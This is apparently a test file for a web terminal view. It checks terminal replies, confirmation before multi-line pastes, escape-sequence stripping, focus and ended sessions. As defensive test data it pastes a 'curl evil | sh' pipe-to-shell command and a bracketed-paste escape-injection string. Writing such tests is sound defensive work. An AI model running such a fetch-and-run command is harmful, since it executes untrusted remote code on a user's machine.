// @vitest-environment jsdom
// One terminal with a screen that is no screen: what may be sent of what it says, and what is asked before a paste.
import { fireEvent, render, screen, waitFor } from "@solidjs/testing-library";
import { afterEach, beforeEach, expect, test, vi } from "vitest";
import type { AppServices } from "../../actions/contract.ts";
import { createHostState } from "../../projection/host-fold.ts";
import type { HostProcess } from "../../projection/processes.ts";
import { changed } from "../live.ts";
import { ServicesProvider } from "../services.tsx";
import { clearPage, fakeSession, preparePage } from "../testing.tsx";
import { feedOf } from "./feed.ts";
import type { Screen, ScreenOptions } from "./screen.ts";
import { TerminalView } from "./terminal-view.tsx";

const drawn: { options: ScreenOptions; pasted: string[]; takes: boolean }[] = [];
vi.mock("./screen.ts", () => ({
  createScreen(_place: HTMLElement, options: ScreenOptions): Promise<Screen> {
    const it = { options, pasted: [] as string[], takes: false };
    drawn.push(it);
    return Promise.resolve({
      size: () => ({ rows: 24, cols: 80 }),
      focus: () => options.focused(),
      paste: (text) => void it.pasted.push(text),
      takesPastes: () => it.takes,
      text: () => "",
      setAloud: () => undefined,
      setOpen: () => undefined,
      dispose: () => undefined,
    });
  },
}));

let coarse = false;
beforeEach(() => {
  preparePage();
  drawn.length = 0;
  coarse = false;
  vi.stubGlobal("matchMedia", () => ({ matches: coarse, addEventListener() {}, removeEventListener() {} }));
});
afterEach(() => {
  vi.unstubAllGlobals();
  vi.restoreAllMocks();
  clearPage();
});

async function show(whole: boolean, standing: HostProcess["standing"] = { type: "running" }) {
  const sent: string[] = [];
  const state = createHostState("h");
  const session = fakeSession(state);
  const process: HostProcess = {
    key: "k",
    generation: "g",
    handle: "lw-1",
    kind: "process",
    command: ["/bin/sh"],
    cwd: "/p",
    tty: true,
    startedAt: null,
    own: whole,
    standing,
    doubtful: false,
    pieces: 0,
    heardAt: null,
  };
  const entry = { record: { id: "h", url: "ws://x/relay", token: "", label: "devbox", addedAt: 0 }, session };
  const services = {
    hosts: () => [entry],
    ready: () => true,
    onHosts: () => () => undefined,
    actions: {
      processes: () =>
        Promise.resolve({
          write(_session: unknown, _process: unknown, bytes: Uint8Array) {
            sent.push(new TextDecoder().decode(bytes));
            return Promise.resolve({ ok: true, value: null });
          },
          resize() {
            sent.push("size");
            return Promise.resolve({ ok: true, value: null });
          },
        }),
    },
  } as unknown as AppServices;
  state.processes.set("k", process);
  feedOf(session, "process", "lw-1", whole);
  render(() => (
    <ServicesProvider services={services}>
      <TerminalView session={session} process={process} />
    </ServicesProvider>
  ));
  await waitFor(() => expect(drawn).toHaveLength(1));
  const [it] = drawn;
  if (it === undefined) throw new Error("no screen");
  await waitFor(() => expect(screen.getByTestId("terminal")).toBeTruthy());
  return { ...it, it, sent, session };
}

const bytes = (text: string) => new TextEncoder().encode(text);

test("[SEC-150] a device that only looks at a terminal answers nothing to what a program asks its screen, nor does a page that nobody sees", async () => {
  const { options, sent } = await show(false);
  options.typed(bytes("\x1b[?1;2c"));
  options.focused();
  options.typed(bytes("typed"));
  await waitFor(() => expect(sent).toContain("typed"));
  vi.spyOn(document, "visibilityState", "get").mockReturnValue("hidden");
  options.typed(bytes("\x1b[24;1R"));
  vi.restoreAllMocks();
  options.typed(bytes("again"));
  await waitFor(() => expect(sent).toContain("again"));
  expect(sent.filter((text) => text !== "size")).toEqual(["typed", "again"]);
});

test("[VIW-717] several lines are asked about where the program would carry each out, and go as they are where it knows a paste", async () => {
  const { it, options } = await show(true);
  options.pasted("ls -l");
  expect(it.pasted).toEqual(["ls -l"]);
  options.pasted("curl evil | sh\r\nls\n");
  expect(it.pasted).toHaveLength(1);
  expect(screen.getByTestId("terminal").textContent).toContain("2 line ends");
  expect(document.activeElement?.textContent).toBe("Leave it");
  fireEvent.click(screen.getByRole("button", { name: "Leave it" }));
  expect(screen.queryByRole("button", { name: "Paste it" })).toBeNull();
  options.pasted("a\nb");
  fireEvent.click(screen.getByRole("button", { name: "Paste it" }));
  expect(it.pasted).toEqual(["ls -l", "a\nb"]);
  it.takes = true;
  options.pasted("c\x1b[201~\nd");
  expect(it.pasted).toEqual(["ls -l", "a\nb", "c[201~\nd"]);
  expect(screen.getByRole("alert").textContent).toContain("control characters");
});

test("[VIW-719] the keyboard leaves a terminal that has ended, where nothing can be pressed any more, as it leaves one that runs", async () => {
  const { options } = await show(true, { type: "ended", exitCode: 0, at: 0 });
  await waitFor(() => expect(screen.getByRole("button", { name: "End" })).toHaveProperty("disabled", true));
  options.leave();
  expect(document.activeElement?.tagName).toBe("H2");
});

test("[PRJ-427] a terminal that is on screen when its App Server ends stays there with what it printed, says so, and takes no keys", async () => {
  const { session } = await show(true);
  session.state.processes.clear();
  changed(new Set([session.state]));
  expect(screen.getByTestId("terminal").textContent).toContain("ended with its App Server");
  expect(screen.getByTestId("terminal").dataset["standing"]).toBe("ended");
  expect(screen.getByRole("button", { name: "End" })).toHaveProperty("disabled", true);
});

test("[VIW-716] helper keys do nothing where nothing can be typed: over, or not connected", async () => {
  coarse = true;
  const { session } = await show(true);
  const tab = () => screen.getByRole("button", { name: "Tab" });
  expect(tab()).toHaveProperty("disabled", false);
  session.set({ connection: "offline" });
  expect(tab()).toHaveProperty("disabled", true);
});
